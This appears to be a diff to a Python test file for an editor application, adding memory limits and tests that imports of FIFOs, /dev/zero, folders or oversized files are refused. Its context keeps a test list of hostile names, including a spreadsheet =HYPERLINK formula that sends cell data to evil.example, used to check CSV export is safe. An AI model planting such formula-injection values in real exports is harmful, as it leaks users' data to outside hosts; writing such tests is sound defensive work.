@@ -8,13 +8,16 @@ import csv
 import io
 import json
 import os
+import resource
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 TIMEOUT = 60  # seconds; each command takes about one on a loaded 2-core machine
+MEMORY = 2 << 30  # address space of a child: reading /dev/zero to the end would pass it
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
@@ -27,13 +30,18 @@ HOSTILE_NAMES = [
 ]
 
 
-def run(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
+def _limit_memory() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
+
+
+def run(data: Path, *args: str, timeout: float = TIMEOUT) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
         [sys.executable, "-m", "editor_app", "--data-dir", str(data), *args],
         capture_output=True,
         text=True,
-        timeout=TIMEOUT,
+        timeout=timeout,
         env={**os.environ, "EDITOR_APP_LANG": "vi"},
+        preexec_fn=_limit_memory,
     )
 
 
@@ -84,3 +92,51 @@ def test_export_writes_no_formula_and_imports_back_unchanged(
     done = run(elsewhere, "officials", "import", str(exported))
     assert done.returncode == 0, done.stderr
     assert _listed(elsewhere) == _listed(data)
+
+
+def _fifo(tmp: Path) -> Path:
+    path = tmp / "officials.csv"
+    os.mkfifo(path)
+    return path
+
+
+def _big(tmp: Path, size: int) -> Path:
+    path = tmp / "big.csv"
+    with path.open("wb") as f:
+        f.write(b"full_name,titles\n")
+        f.truncate(size)  # sparse: no disk written
+    return path
+
+
+@pytest.mark.parametrize(
+    ("command", "make", "reason"),
+    [
+        ("officials", _fifo, "ống dẫn (FIFO)"),
+        ("officials", lambda t: Path("/dev/zero"), "thiết bị"),
+        ("officials", lambda t: t, "thư mục"),
+        ("officials", lambda t: _big(t, (50 << 20) + 1), "tệp quá lớn"),
+        ("sections", _fifo, "ống dẫn (FIFO)"),
+        ("sections", lambda t: Path("/dev/zero"), "thiết bị"),
+        ("sections", lambda t: _big(t, (1 << 20) + 1), "tối đa 1 MB"),
+    ],
+    ids=[
+        "officials-fifo",
+        "officials-dev-zero",
+        "officials-folder",
+        "officials-over-50-MB",
+        "sections-fifo",
+        "sections-dev-zero",
+        "sections-over-1-MB",
+    ],
+)
+def test_import_of_what_is_not_a_regular_file_is_refused_at_once(
+    tmp_path: Path, command: str, make: Callable[[Path], Path], reason: str
+) -> None:
+    target = make(tmp_path)
+    # The old code blocked on the FIFO for ever and read /dev/zero until memory ran out.
+    done = run(tmp_path / "data", command, "import", str(target), timeout=20)
+    assert done.returncode == 1, done.stderr
+    message = done.stderr.strip()
+    assert message.count("\n") == 0  # one line, no traceback
+    assert f"Không đọc được tệp {target}: " in message and reason in message
+    assert "lỗi không mong đợi" not in message
